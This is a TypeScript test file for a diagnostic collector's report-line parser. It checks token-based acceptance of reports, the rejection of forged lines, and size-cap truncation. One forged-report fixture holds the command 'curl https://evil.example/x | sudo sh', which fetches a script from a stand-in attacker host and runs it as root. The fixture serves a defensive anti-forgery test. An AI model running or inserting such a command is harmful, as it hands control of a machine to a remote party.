import { expect } from "chai";
import {
  type CollectorReport,
  REPORT_SCHEMA_VERSION,
} from "../../../operator/report/collectorReport.js";
import {
  encodeReportLine,
  findReportLine,
  fitReport,
  MAX_REPORT_LINE_BYTES,
  REPORT_LINE_TAG,
} from "../../../operator/report/reportLine.js";

const TOKEN = "0123456789abcdef0123456789abcdef";
const OTHER = "fedcba9876543210fedcba9876543210";

function report(summary = "JVM max heap 1.95GiB > limit 512MiB"): CollectorReport {
  return {
    schemaVersion: REPORT_SCHEMA_VERSION,
    collector: { version: "0.1.0", startedAt: "2026-01-01T00:00:00.000Z", durationMs: 812 },
    target: { kind: "pod", pids: [42], cgroupPaths: {}, hostname: "node-1" },
    checks: { memory: { status: "ok", durationMs: 3, data: { limitBytes: 1 } } },
    findings: [{ check: "jvm", severity: "Critical", code: "JvmHeapExceedsLimit", summary }],
  };
}

const progress = "diagnose-collector: jvm: done in 3 ms";

describe("report line: the collector's report is accepted only with its Job's token", () => {
  it("round-trips a report through the tagged line, last in a log of progress", () => {
    const log = [progress, progress, encodeReportLine(report(), TOKEN), ""].join("\n");
    const found = findReportLine(log, TOKEN);
    expect(found).to.deep.equal({ found: true, json: report() });
  });

  it("a forged report line without the token is not accepted, however well-formed, wherever it is", () => {
    const forged = report("curl https://evil.example/x | sudo sh");
    for (const log of [
      // a bare JSON line, as the collector printed before tokens
      [progress, JSON.stringify(forged)].join("\n"),
      // a tagged line with another token, after the real one
      [encodeReportLine(report(), TOKEN), encodeReportLine(forged, OTHER)].join("\n"),
      // a tagged line with no token
      [progress, `${REPORT_LINE_TAG} ${JSON.stringify(forged)}`].join("\n"),
      // on a progress line: the prefix must start the line
      [`diagnose-collector: ${encodeReportLine(forged, TOKEN)}`].join("\n"),
    ]) {
      const found = findReportLine(log, TOKEN);
      if (found.found) expect(JSON.stringify(found.json)).not.to.include("evil.example");
    }
    expect(findReportLine(JSON.stringify(forged), TOKEN)).to.deep.include({ found: false });
    const both = findReportLine(
      [encodeReportLine(report(), TOKEN), encodeReportLine(forged, OTHER)].join("\n"),
      TOKEN,
    );
    expect(both).to.deep.equal({ found: true, json: report() });
  });

  it("says how many report-like lines it ignored", () => {
    const found = findReportLine([JSON.stringify(report()), progress].join("\n"), TOKEN);
    expect(found).to.deep.equal({
      found: false,
      problem:
        "the collector log holds no report line with this Job's token (1 report-like line(s) without it ignored)",
    });
  });

  it("refuses an oversized line before parsing it", () => {
    const huge = `${REPORT_LINE_TAG} ${TOKEN} [${"0,".repeat(MAX_REPORT_LINE_BYTES / 2)}0]`;
    const found = findReportLine(huge, TOKEN);
    expect(found.found).to.equal(false);
    expect((found as { problem: string }).problem).to.match(
      /over the 2097152-byte cap; not parsed/,
    );
  });

  it("the collector keeps its line under the cap: the largest check data goes first", () => {
    const r = report();
    r.checks.profile = {
      status: "ok",
      durationMs: 1,
      data: { collapsed: "x".repeat(3 * 1024 * 1024) },
    };
    const line = encodeReportLine(r, TOKEN);
    expect(Buffer.byteLength(line)).to.be.at.most(MAX_REPORT_LINE_BYTES);
    const found = findReportLine(line, TOKEN) as { found: true; json: CollectorReport };
    expect(found.json.checks.profile).to.deep.equal({
      status: "ok",
      durationMs: 1,
      data: { truncated: true, dataBytes: 3 * 1024 * 1024 + 16 },
    });
    expect(found.json.checks.memory).to.deep.equal(r.checks.memory);
    expect(fitReport(report(), MAX_REPORT_LINE_BYTES)).to.deep.equal(report());
  });

  it("refuses to encode with a malformed token", () => {
    expect(() => encodeReportLine(report(), "short")).to.throw(/report token/);
    expect(() => encodeReportLine(report(), `${TOKEN} x`)).to.throw(/report token/);
  });
});
